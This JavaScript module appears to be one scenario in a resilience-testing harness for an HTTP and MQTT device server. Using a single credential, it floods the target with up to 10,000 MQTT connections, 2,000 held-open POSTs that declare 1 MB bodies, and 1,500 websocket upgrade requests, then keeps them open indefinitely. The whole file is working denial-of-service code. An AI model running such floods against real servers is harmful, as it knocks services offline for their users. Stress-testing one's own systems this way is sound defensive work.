import { setTimeout as sleep } from 'node:timers/promises'
import { keepOpen, rawHttp, requestHead } from '../http-attacker.mjs'
import { MqttAttacker } from '../mqtt-attacker.mjs'

export const title =
  '8. one credential: connections without end; 2,000 unfinished POSTs of 1 MB; 1,500 upgrades on an unknown path'

const mostConnections = 10_000
const atOnce = 50
const posts = 2_000
const bodyBytes = 1_000_000
const upgrades = 1_500
const everyMs = 3

export async function prepare({ attacker }) {
  return { credential: await attacker.accounts.device('crowd') }
}

export async function attack(target, told) {
  const body = Buffer.from(
    `${requestHead('POST', '/api/v1/devices', {
      'content-type': 'application/json',
      'content-length': bodyBytes,
    })}${' '.repeat(bodyBytes - 1)}`,
  )
  const upgrade = requestHead('GET', '/nowhere', {
    ...{ connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13' },
    'sec-websocket-key': Buffer.alloc(16).toString('base64'),
  })
  keepOpen(posts, { everyMs }, () => rawHttp(target, told, body))
  keepOpen(upgrades, { everyMs }, () => rawHttp(target, told, upgrade))
  let number = 0
  const take = async () => {
    while (number < mostConnections) {
      number += 1
      const client = new MqttAttacker(target, told)
      const code = await client.connect({ ...target.credential, clientId: `crowd:${number}` })
      if (code !== 0) await sleep(50)
    }
  }
  await Promise.all(Array.from({ length: atOnce }, take))
  await new Promise(() => undefined)
}
